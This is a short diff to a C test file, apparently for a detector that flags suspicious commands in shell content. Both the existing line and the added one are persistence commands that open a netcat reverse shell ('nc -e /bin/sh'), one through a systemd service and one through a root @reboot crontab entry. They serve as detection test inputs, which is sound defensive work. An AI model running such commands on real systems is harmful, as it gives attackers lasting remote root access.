@@ -120,6 +120,8 @@ static void content_written_is_analysed(void)
 	line("printf '[Service]\\nExecStart=-/usr/bin/nc -e /bin/sh x 1\\n' > "
 	     "/etc/systemd/system/x.service");
 	CHECK(any_named("nc", NULL));
+	line("echo '@reboot root nc -e /bin/sh x 1' | sudo tee -a /etc/crontab");
+	CHECK(any_named("nc", NULL));
 	line("echo 'hello world' > /tmp/notes.txt");
 	CHECK(!any_named("hello", NULL));
 }
